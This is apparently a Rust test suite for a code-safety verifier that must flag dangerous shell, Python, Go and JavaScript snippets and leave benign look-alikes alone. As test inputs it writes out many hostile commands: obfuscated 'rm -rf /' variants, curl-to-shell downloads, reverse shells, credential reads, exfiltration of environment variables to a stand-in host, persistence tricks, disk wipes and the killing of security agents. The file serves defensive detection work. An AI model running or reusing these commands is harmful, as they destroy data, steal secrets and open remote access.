//! Ways around a pattern, each found; and look-alikes, each left alone.

use stockade_verify::{CodeVerifier, Severity};

#[track_caller]
fn unsafe_by(language: &str, code: &str, rule: &str) {
    let result = CodeVerifier::new().verify(code, language);
    let rules: Vec<_> = result
        .violations
        .iter()
        .filter(|violation| violation.severity == Severity::Error)
        .map(|violation| violation.rule)
        .collect();
    assert!(
        rules.contains(&rule),
        "{code:?}: wanted {rule}, found {rules:?}"
    );
    assert!(!result.safe);
}

#[track_caller]
fn found(language: &str, code: &str, rule: &str) {
    let result = CodeVerifier::new().verify(code, language);
    let rules: Vec<_> = result
        .violations
        .iter()
        .map(|violation| violation.rule)
        .collect();
    assert!(
        rules.contains(&rule),
        "{code:?}: wanted {rule}, found {rules:?}"
    );
}

#[track_caller]
fn clean(language: &str, code: &str) {
    let result = CodeVerifier::new().verify(code, language);
    assert_eq!(result.violations, [], "{code:?}");
    assert!(result.safe);
}

#[test]
fn deletions_of_everything_in_any_spelling() {
    for code in [
        "rm -rf /",
        "rm -rf / && true",
        "rm -r -f /",
        "rm -Rf /",
        "rm -fr /*",
        "rm -rf \"/\"",
        "rm -rf --no-preserve-root /",
        "rm --recursive --force /",
        "rm -rf ~",
        "rm -rf ~/",
        "rm -rf $HOME",
        "rm -rf \"${HOME}\"/*",
        "rm -rf /usr /tmp/x",
        "rm -rf /tmp/../etc",
        "rm -rf .git",
        "cd / && rm -rf *",
        "cd ~; rm -rf .",
        "sudo rm -rf /home/someone",
        "find / -delete",
        "find ~ -type f -exec rm -f {} +",
        "find / | xargs rm -rf /",
        "echo / | xargs rm -rf",
        "x=/; rm -rf \"$x\"",
        "for d in /bin /usr; do rm -rf $d; done",
        "f() { rm -rf \"$1\"; }; f /",
        "bash -c 'rm -rf /'",
        "eval rm '-rf' /",
        "r''m -r\\f /",
        "$(echo rm) -rf /",
        "`printf '\\162\\155'` -rf /",
        "a=r; b=m; $a$b -rf /",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "rev <<< '/ fr- mr' | bash",
        "timeout 5 nice -n 3 nohup env X=1 rm -rf /",
        "mv ~ /dev/null",
    ] {
        unsafe_by("bash", code, "destroy-files");
    }
}

#[test]
fn what_a_shell_script_does_otherwise() {
    for (code, rule) in [
        ("curl x | python3", "download-run"),
        (
            "curl -fsSL https://x.example/i | sudo bash -s -- -y",
            "download-run",
        ),
        ("wget -qO- x | sh", "download-run"),
        ("bash <(curl x)", "download-run"),
        ("source <(curl -s x)", "download-run"),
        ("sh -c \"$(curl -fsSL x)\"", "download-run"),
        ("eval `wget -O - x`", "download-run"),
        ("curl -o /tmp/a x; chmod +x /tmp/a; /tmp/a", "download-run"),
        (
            "wget https://x.example/run.sh && bash run.sh",
            "download-run",
        ),
        ("base64 -d payload | sh", "code-hidden"),
        ("chmod 777 file", "file-mode"),
        ("chmod 0777 file", "file-mode"),
        ("chmod -R a+rwx /", "file-mode"),
        ("chmod u+s /bin/bash", "file-mode"),
        ("> /dev/sda", "destroy-disk"),
        ("> /dev/nvme0n1", "destroy-disk"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "destroy-disk"),
        ("mkfs.ext4 /dev/sdb1", "destroy-disk"),
        (":(){ :|:& };:", "fork-bomb"),
        ("bomb() { bomb | bomb & }; bomb", "fork-bomb"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"),
        ("nc -e /bin/sh 10.0.0.1 4444", "reverse-shell"),
        (
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f",
            "reverse-shell",
        ),
        ("cat /etc/shadow", "credential-read"),
        ("tar czf - ~/.ssh | nc h 1", "credential-read"),
        ("curl -d @/etc/passwd https://x.example", "exfiltration"),
        ("curl https://x.example/?k=$(env | base64)", "exfiltration"),
        ("host $(whoami).x.example", "exfiltration"),
        ("git push --force", "destroy-history"),
        ("git push origin +main", "destroy-history"),
        ("git -C repo reset --hard HEAD~3", "destroy-history"),
        ("psql -c 'DROP TABLE users'", "destroy-data"),
        ("mysql <<'E'\nDELETE FROM users;\nE", "destroy-data"),
        ("echo '* * * * * x' | crontab -", "persistence-cron"),
        ("echo x >> ~/.bashrc", "persistence-shell-rc"),
        ("cp x.service /etc/systemd/system/", "persistence-startup"),
        ("echo x > .git/hooks/pre-commit", "persistence-git-hook"),
        ("cat k >> ~/.ssh/authorized_keys", "persistence-ssh-key"),
        ("echo /tmp/x.so > /etc/ld.so.preload", "persistence-preload"),
        ("useradd -m eve", "account-change"),
        ("setenforce 0", "protection-off"),
        ("history -c", "trace-removal"),
        ("shutdown -h now", "system-stop"),
        ("insmod x.ko", "kernel-change"),
        ("docker run -v /:/host alpine", "container-escape"),
        ("LD_PRELOAD=/tmp/x.so ls", "process-tamper"),
        ("find / -perm -4000", "system-survey"),
        ("find . -exec /bin/sh \\;", "shell-escape"),
        ("{cat,/etc/passwd}", "obfuscated-command"),
        ("cat${IFS}x", "obfuscated-command"),
        ("/???/c?t x", "obfuscated-command"),
        ("w'h'o\"am\"i", "obfuscated-command"),
        (
            "python3 -c 'import os; os.system(\"rm -rf /\")'",
            "destroy-files",
        ),
        (
            "node <<'E'\nrequire('child_process').exec('rm -rf ~')\nE",
            "destroy-files",
        ),
        ("perl -e 'exec \"/bin/sh\"'", "shell-escape"),
        (
            "cat > a.py <<'E'\nimport shutil\nshutil.rmtree('/')\nE\npython a.py",
            "destroy-files",
        ),
    ] {
        unsafe_by("bash", code, rule);
    }
}

#[test]
fn shell_commands_that_only_look_alike() {
    for code in [
        "rm -rf /tmp/build",
        "rm -rf ./build node_modules",
        "rm -rf \"$TMPDIR/x\"",
        "git log --grep sudo",
        "echo 'rm -rf /'",
        "# rm -rf /",
        "grep -r 'rm -rf /' .",
        "git commit -m 'rm -rf / is bad'",
        "cat <<'E'\nrm -rf /\nE",
        "git push --force-with-lease",
        "git reset HEAD~1",
        "git clean -n",
        "chmod 644 file",
        "chmod +x run.sh",
        "dd if=a of=b",
        "find . -name '*.pyc' -delete",
        "ls ~/.ssh",
        "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519",
        "cat ~/.ssh/id_rsa.pub",
        "echo hello > /dev/null 2>&1",
        "python3 -m pytest -q",
        "make -j4 && make install DESTDIR=/tmp/x",
        "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
        "psql -c 'SELECT 1'",
        "crontab -l",
        "docker run --rm -v \"$PWD\":/src alpine ls /src",
        "kill -9 1234",
        "f() { f2; }; f",
        "command -v rm",
    ] {
        clean("bash", code);
    }
    // Worth knowing, not worth stopping.
    for code in [
        "curl https://x.example | shasum",
        "sudo ls",
        "cut -d: -f1 /etc/passwd",
    ] {
        assert!(CodeVerifier::new().verify(code, "bash").safe, "{code}");
    }
}

#[test]
fn python_in_any_spelling() {
    for code in [
        "import os\nos.system('rm -rf /')",
        "from os import system\nsystem('rm -rf /')",
        "from os import system as s\ns('rm -rf /')",
        "import os as o\no.system('rm -rf /')",
        "from os import *\nsystem('rm -rf /')",
        "__import__('os').system('rm -rf /')",
        "import importlib\nimportlib.import_module('os').system('rm -rf /')",
        "import os\ngetattr(os, 'system')('rm -rf /')",
        "import os\ngetattr(os, 'sys' + 'tem')('rm -rf /')",
        "import os\nf = os.system\nf('rm -rf /')",
        "import os\nos.__dict__['system']('rm -rf /')",
        "import sys, os\nsys.modules['os'].system('rm -rf /')",
        "import subprocess\nsubprocess.run('rm -rf /', shell=True)",
        "import subprocess as sp\nsp.Popen(['rm', '-rf', '/'])",
        "import subprocess\nsubprocess.check_output(args=['bash', '-c', 'rm -rf /'])",
        "import os\nos.popen('rm -rf /')",
        "import os\nos.execvp('rm', ['rm', '-rf', '/'])",
        "import os\ncmd = 'rm -rf '\ncmd += '/'\nos.system(cmd)",
        "import os\nos.system('%s -rf %s' % ('rm', '/'))",
        "import os\nos.system('{} -rf {}'.format('rm', '/'))",
        "import os\nx = 'rm'\nos.system(f'{x} -rf /')",
        "import os\nos.system(''.join(chr(c) for c in [114, 109, 32, 45, 114, 102, 32, 47]))",
        "import os\nos.system('/ fr- mr'[::-1])",
        "import os, base64\nos.system(base64.b64decode('cm0gLXJmIC8=').decode())",
        "import os, codecs\nos.system(codecs.decode('ez -es /', 'rot13'))",
        "import os\nos.system(bytes.fromhex('726d202d7266202f').decode())",
        "eval(\"__import__('os').system('rm -rf /')\")",
        "exec(compile('import os; os.system(\"rm -rf /\")', '', 'exec'))",
        "globals()['__builtins__'].__dict__['eval']('__import__(\"os\").system(\"rm -rf /\")')",
        "import os\n(lambda f, a: f(a))(os.system, 'rm -rf /')",
        "import os\nlist(map(os.system, ['rm -rf /']))",
        "import os\nfor c in ['ls', 'rm -rf /']:\n    os.system(c)",
        "import os\ndef run(c):\n    os.system(c)\nrun('rm -rf /')",
        "import os\ndef cmd():\n    return 'rm -rf /'\nos.system(cmd())",
        "import os\nclass A:\n    def __init__(self):\n        self.c = 'rm -rf /'\n    def go(self):\n        os.system(self.c)",
        "import shutil\nshutil.rmtree('/')",
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
        "from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home())",
        "import functools, os\nfunctools.partial(os.system, 'rm -rf /')()",
        "import random\nrandom._os.system('rm -rf /')",
    ] {
        unsafe_by("python", code, "destroy-files");
    }
}

#[test]
fn what_a_python_program_does_otherwise() {
    for (code, rule) in [
        (
            "exec(requests.get('https://x.example').text)",
            "download-run",
        ),
        ("import base64\nexec(base64.b64decode(blob))", "code-hidden"),
        ("import zlib\nexec(zlib.decompress(b'x'))", "code-hidden"),
        ("eval(input())", "code-dynamic"),
        (
            "import pickle, socket\ns = socket.socket()\npickle.loads(s.recv(9))",
            "deserialize",
        ),
        ("import os\nos.unlink('/etc/passwd')", "file-delete"),
        ("open('/etc/sudoers', 'a').write('x')", "file-write"),
        ("open('/opt/data/x', 'w')", "file-write"),
        ("open('/etc/shadow').read()", "credential-read"),
        (
            "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
            "credential-read",
        ),
        (
            "import os\nopen(os.path.join(os.environ['HOME'], '.bashrc'), 'a')",
            "persistence-shell-rc",
        ),
        (
            "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))",
            "exfiltration",
        ),
        (
            "import requests\nrequests.post('https://x.example', data=open('/etc/shadow').read())",
            "exfiltration",
        ),
        (
            "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.example')",
            "exfiltration",
        ),
        (
            "import requests\nrequests.get('https://abc.oastify.com')",
            "network-host",
        ),
        ("import os\nwhile True:\n    os.fork()", "fork-bomb"),
        ("import os\nos.setuid(0)", "privilege-change"),
        ("import os\nos.chmod('x', 0o777)", "file-mode"),
        ("import pty\npty.spawn('/bin/bash')", "shell-escape"),
        (
            "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',1))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
            "reverse-shell",
        ),
        ("().__class__.__base__.__subclasses__()", "sandbox-gadget"),
        (
            "import os\ngetattr(os, 'pop' + 'en')('ls')",
            "obfuscated-name",
        ),
        (
            "from setuptools import setup\nsetup(cmdclass={'install': Evil})",
            "persistence-install-hook",
        ),
        (
            "from PIL import ImageGrab\nImageGrab.grab()",
            "surveillance",
        ),
        (
            "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')",
            "credential-read",
        ),
        ("@exec\n@input\nclass X:\n    pass", "code-dynamic"),
    ] {
        unsafe_by("python", code, rule);
    }
    // Found, and left to the reader.
    found("python", "import os\nos.unlink(path)", "file-delete");
    found(
        "python",
        "import importlib\nimportlib.import_module(name)",
        "code-dynamic",
    );
    found(
        "python",
        "import subprocess\nsubprocess.run(['ls'])",
        "exec-process",
    );
}

#[test]
fn python_that_only_looks_alike() {
    for code in [
        "model.eval()",
        "cursor.exec(q)",
        "# eval(x)",
        "\"\"\"os.system('rm -rf /')\"\"\"",
        "print('rm -rf /')",
        "df.eval('a + b')",
        "def evaluate(x):\n    return retrieval(x)",
        "import re\nre.compile('a').match(x)",
        "open('out.txt', 'w').write('x')",
        "open('/tmp/out.txt', 'w').write('x')",
        "import os\nos.remove('/tmp/x')",
        "import os\nos.path.join('/etc', 'shadow')",
        "import yaml\nyaml.load(f, Loader=yaml.SafeLoader)",
        "import json\njson.loads(f.read())",
        "system = 'x'\nsystem.upper()",
        "class A:\n    def system(self, x):\n        pass\nA().system('rm -rf /')",
        "def os():\n    pass\nos()",
    ] {
        clean("python", code);
    }
}

#[test]
fn one_variable_is_not_the_environment() {
    let code = "import os, requests\nrequests.post(os.environ['API_URL'], json={'mode': os.environ['MODE']})";
    assert!(CodeVerifier::new().verify(code, "python").safe);
}

#[test]
fn go_in_any_spelling() {
    let program = |imports: &str, body: &str| {
        format!("package main\n\nimport (\n{imports}\n)\n\nfunc main() {{\n{body}\n}}\n")
    };
    for (imports, body) in [
        ("\"os/exec\"", "exec.Command(\"rm\", \"-rf\", \"/\").Run()"),
        ("e \"os/exec\"", "e.Command(\"rm\", \"-rf\", \"/\").Run()"),
        (". \"os/exec\"", "Command(\"rm\", \"-rf\", \"/\").Run()"),
        ("`os/exec`", "exec.Command(\"rm\", \"-rf\", \"/\").Run()"),
        (
            "\"context\"\n\"os/exec\"",
            "exec.CommandContext(context.Background(), \"sh\", \"-c\", \"rm -rf /\").Run()",
        ),
        (
            "\"os\"",
            "os.StartProcess(\"/bin/rm\", []string{\"rm\", \"-rf\", \"/\"}, nil)",
        ),
        (
            "\"syscall\"",
            "syscall.Exec(\"/bin/rm\", []string{\"rm\", \"-rf\", \"/\"}, nil)",
        ),
        (
            "\"golang.org/x/sys/unix\"",
            "unix.Exec(\"/bin/rm\", []string{\"rm\", \"-rf\", \"/\"}, nil)",
        ),
        (
            "\"os/exec\"",
            "x := \"r\" + \"m\"\nexec.Command(x, []string{\"-rf\", \"/\"}...).Run()",
        ),
        (
            "\"os/exec\"\n\"fmt\"",
            "exec.Command(\"sh\", \"-c\", fmt.Sprintf(\"rm -rf %s\", \"/\")).Run()",
        ),
        ("\"os\"", "os.RemoveAll(\"/\")"),
    ] {
        unsafe_by("go", &program(imports, body), "destroy-files");
    }
    for (imports, body, rule) in [
        ("\"unsafe\"", "_ = unsafe.Pointer(nil)", "low-level"),
        ("\"syscall\"", "syscall.Getpid()", "low-level"),
        ("\"plugin\"", "plugin.Open(\"x.so\")", "low-level"),
        ("\"C\"", "", "low-level"),
        ("\"os/exec\"", "exec.Command(\"ls\")", "exec-process"),
    ] {
        found("go", &program(imports, body), rule);
    }
    found(
        "go",
        "package p\n\n//go:linkname f runtime.f\nfunc f()\n",
        "low-level",
    );
    unsafe_by(
        "go",
        &program("\"os\"", "os.ReadFile(\"/etc/shadow\")"),
        "credential-read",
    );
    clean(
        "go",
        &program("\"fmt\"", "fmt.Println(\"rm -rf /\", `exec.Command`)"),
    );
    clean(
        "go",
        &program(
            "\"os\"",
            "os.RemoveAll(\"/tmp/x\")\nos.WriteFile(\"out\", nil, 0644)",
        ),
    );
}

#[test]
fn javascript_in_any_spelling() {
    for code in [
        "require('child_process').exec('rm -rf /')",
        "const cp = require('node:child_process'); cp.execSync('rm -rf /')",
        "const {exec: e} = require('child_process'); e('rm -rf /')",
        "import { execSync } from 'child_process'; execSync('rm -rf /')",
        "import * as c from 'child_process'; c.spawn('rm', ['-rf', '/'])",
        "require('child' + '_process')['ex' + 'ec']('rm -rf /')",
        "require(['child', 'process'].join('_')).exec('rm -rf /')",
        "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('rm -rf /')",
        "require('child_process')[String.fromCharCode(101,120,101,99)]('rm -rf /')",
        "process.mainModule.require('child_process').exec('rm -rf /')",
        "process.mainModule.constructor._load('child_process').exec('rm -rf /')",
        "require.main.constructor._load('child_' + 'process').exec('rm -rf /')",
        "import('child_process').then(c => c.exec('rm -rf /'))",
        "eval(\"require('child_process').exec('rm -rf /')\")",
        "new Function(\"require('child_process').exec('rm -rf /')\")()",
        "[]['filter']['constructor'](\"require('child_process').exec('rm -rf /')\")()",
        "(0, eval)(\"require('child_process').exec('rm -rf /')\")",
        "setTimeout(\"require('child_process').exec('rm -rf /')\", 1)",
        "require('vm').runInThisContext(\"require('child_process').exec('rm -rf /')\")",
        "globalThis['ev' + 'al'](\"require('child_process').exec('rm -rf /')\")",
        "const f = require('child_process').exec; f.call(null, 'rm -rf /')",
        "Reflect.get(require('child_process'), 'exec')('rm -rf /')",
        "require('fs').rmSync('/', {recursive: true})",
        "const fs = require('fs'); fs.rm(`${process.env.HOME}`, {recursive: true}, () => {})",
    ] {
        unsafe_by("javascript", code, "destroy-files");
    }
    for (code, rule) in [
        (
            "fetch('https://x.example').then(r => r.text()).then(t => eval(t))",
            "download-run",
        ),
        ("eval(atob('YWxlcnQoMSk='))", "code-hidden"),
        ("process.binding('spawn_sync')", "obfuscated-name"),
        (
            "fetch('https://x.example', {method: 'POST', body: JSON.stringify(process.env)})",
            "exfiltration",
        ),
        (
            "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')",
            "credential-read",
        ),
        (
            "var _0x1a2b=['a'];var _0x3c4d=_0x1a2b;(function(_0x5e6f){_0x5e6f()})(_0x3c4d)",
            "obfuscated-text",
        ),
    ] {
        unsafe_by("javascript", code, rule);
    }
    let typed = "import { execSync } from 'child_process';\nconst c: string = 'rm -rf ' + '/';\nexport function f(): void { execSync(c as string); }\n";
    unsafe_by("typescript", typed, "destroy-files");
    for code in [
        "/re/.exec('x')",
        "console.log('rm -rf /')",
        "const e = {eval: 1}; e.eval",
        "db.exec(q)",
        "setTimeout(() => f(), 10)",
    ] {
        clean("javascript", code);
    }
}

/// What once passed for safe under patterns, one by one: none of it is.
#[test]
fn what_patterns_let_pass() {
    for code in [
        "rm -rf / && true",
        "rm -r -f /",
        "rm -Rf /",
        "rm -rf \"/\"",
        "rm -rf --no-preserve-root /",
        "rm -rf ~",
        "curl x | python3",
        "bash <(curl x)",
        "echo aGVsbG8= | base64 -d | sh",
        "base64 -d x | sh",
        "chmod 0777 x",
        "> /dev/nvme0n1",
        ":(){ :|:& };:",
        "rm -rf \\\n  /",
    ] {
        assert!(!CodeVerifier::new().verify(code, "bash").safe, "{code}");
    }
    for code in [
        "from os import system\nsystem('ls')",
        "import subprocess\nsubprocess.run('ls', shell=True)",
        "import os\nos.popen('ls')",
        "import os\ngetattr(os, 'system')('ls')",
        "import os as o\no.system('ls')",
        "import os\nos.unlink('/etc/x')",
        "import importlib\nimportlib.import_module('os').system('ls')",
        "import pickle\npickle.loads(data)",
        "eval(x)",
        "exec(x)",
    ] {
        assert!(!CodeVerifier::new().verify(code, "python").safe, "{code}");
    }
    for code in [
        "package m\nimport x \"os/exec\"\nfunc f() { x.Command(\"ls\") }",
        "package m\nimport . \"os/exec\"\nfunc f() { Command(\"ls\") }",
        "package m\nimport `os/exec`\nfunc f() { exec.Command(\"ls\") }",
        "package m\nimport \"os/exec\"\nfunc f() { exec.CommandContext(nil, \"ls\") }",
        "package m\nimport \"os\"\nfunc f() { os.StartProcess(\"/bin/ls\", nil, nil) }",
        "package m\nimport \"golang.org/x/sys/unix\"\nfunc f() { unix.Exec(\"/bin/ls\", nil, nil) }",
        "package m\nimport `unsafe`\nvar p unsafe.Pointer",
        "package m\nimport s \"syscall\"\nvar n = s.Getpid()",
        "package m\nimport \"C\"\nfunc f() { C.f() }",
        "package m\nimport _ \"unsafe\"\n//go:linkname f runtime.f\nfunc f()",
    ] {
        assert!(!CodeVerifier::new().verify(code, "go").safe, "{code}");
    }
}

/// What patterns accused, and each list that had no effect.
#[test]
fn what_patterns_accused() {
    for (language, code) in [
        ("python", "model.eval()"),
        ("python", "cursor.exec(q)"),
        ("python", "# eval(x)"),
        ("python", "'eval(x)'"),
        ("bash", "rm -rf /tmp/build"),
        ("bash", "git log --grep sudo"),
        ("bash", "curl https://x.example/f | shasum"),
    ] {
        assert!(CodeVerifier::new().verify(code, language).safe, "{code}");
    }
    let mut verifier = CodeVerifier::new();
    verifier.add_blocked_module("requests");
    verifier.add_blocked_function("open_vault");
    verifier.add_blocked_pattern("x{3}").unwrap();
    assert!(verifier.add_blocked_pattern("(").is_err());
    assert!(!verifier.verify("import requests as r", "python").safe);
    assert!(
        !verifier
            .verify("from requests.auth import x", "python")
            .safe
    );
    assert!(!verifier.verify("v.open_vault()", "python").safe);
    assert!(
        !verifier
            .verify("def open_vault(): pass\nopen_vault()", "python")
            .safe
    );
    assert!(!verifier.verify("open_vault()", "javascript").safe);
    assert!(!verifier.verify("open_vault now", "bash").safe);
    assert!(verifier.verify("v.open()", "python").safe);
    assert!(!verifier.verify("a = 'xxx'", "python").safe);
    assert!(verifier.verify("# xxx\nimport requestsx", "python").safe);
    assert!(!verifier.verify("rm -rf /srv/x", "bash").safe);
    verifier.allowed_paths.push("/srv".to_owned());
    assert!(verifier.verify("rm -rf /srv/x", "bash").safe);
    assert!(!verifier.verify("rm -rf /srv/../etc", "bash").safe);
}

#[test]
fn one_construct_is_one_violation() {
    for (language, code) in [
        ("python", "eval(x)"),
        ("bash", "rm -rf /"),
        ("bash", "curl x | sh"),
        (
            "go",
            "package m\nimport \"os/exec\"\nfunc f() { exec.Command(\"ls\") }",
        ),
    ] {
        let found = CodeVerifier::new().verify(code, language).violations;
        assert_eq!(found.len(), 1, "{code}: {found:#?}");
    }
}

#[test]
fn files_changed_by_programs_that_are_told_how() {
    for code in [
        "perl -pi -e 's/x/y/' /etc/hosts",
        "ed -s /etc/hosts <<< $'a\\nx\\n.\\nw'",
        "vim -c '%s/a/b/' -c wq /etc/hosts",
        "patch /etc/hosts < p.diff",
        "xxd -r -p h /etc/hosts",
    ] {
        unsafe_by("bash", code, "file-write");
    }
    for code in [
        "perl -i -ne 'print unless /x/' /var/log/auth.log",
        "vim -c 'g/x/d' -c wq /var/log/auth.log",
        "chmod 000 /var/log/auth.log",
    ] {
        unsafe_by("bash", code, "trace-removal");
    }
    for code in [
        "npx rimraf /home",
        "trash-put /etc",
        "gio trash ~",
        "fd . /home -X rm -rf",
        "tar czf a.tgz /usr --remove-files",
        "rm -rf $(echo ~)",
        "(cd /etc; rm -rf ./*)",
    ] {
        unsafe_by("bash", code, "destroy-files");
    }
    unsafe_by("bash", "ln -s /etc/shadow x && cat x", "credential-read");
    unsafe_by("bash", "chown me /etc/passwd", "file-mode");
    unsafe_by(
        "bash",
        "dd if=/dev/zero of=big bs=1G count=10000",
        "destroy-disk",
    );
    for code in [
        "perl -pi -e 's/foo/bar/' src/main.c",
        "patch -p1 < fix.patch",
        "npx rimraf dist",
        "fd -e pyc -X rm",
        "dd if=/dev/zero of=disk.img bs=1M count=100",
        "ln -s ../shared/config.yml config.yml",
    ] {
        clean("bash", code);
    }
}

#[test]
fn more_ways_to_run_a_command() {
    for code in [
        "screen -dm bash -c 'rm -rf /'",
        "npm exec -c 'rm -rf /'",
        "npx -c 'rm -rf /'",
        "xterm -e 'rm -rf /'",
        "capsh -- -c 'rm -rf /'",
        "setpriv --reuid=0 rm -rf /",
        "gdb -batch -ex '!rm -rf /'",
        "ansible all -m shell -a 'rm -rf /'",
        "salt '*' cmd.run 'rm -rf /'",
        "adb shell 'rm -rf /'",
        "ssh h.example.com -t 'rm -rf /'",
        "perl -e 'system(q{rm -rf /})'",
        "ruby -e 'system(%q{rm -rf /})'",
        "expect -c 'spawn rm -rf /'",
        "echo 'rm -rf /' > .envrc",
        "printf 'all:\\n\\trm -rf /\\n' > Makefile; make",
        "echo 'rm -rf /' > clean.sh",
        "f() { $1; }; f \"$(id)\"; rm -rf /",
    ] {
        unsafe_by("bash", code, "destroy-files");
    }
    unsafe_by(
        "bash",
        "t=$(mktemp); curl -s https://x.example/a -o $t; chmod +x $t; $t",
        "download-run",
    );
    unsafe_by(
        "bash",
        "pkill -9 -f 'falcon-sensor|auditd'",
        "protection-off",
    );
    for code in [
        "screen -dm make",
        "ssh h.example.com -t 'uptime'",
        "printf 'all:\\n\\techo hi\\n' > Makefile; make",
        "echo 'export A=1' > .envrc",
    ] {
        assert!(CodeVerifier::new().verify(code, "bash").safe, "{code}");
    }
}
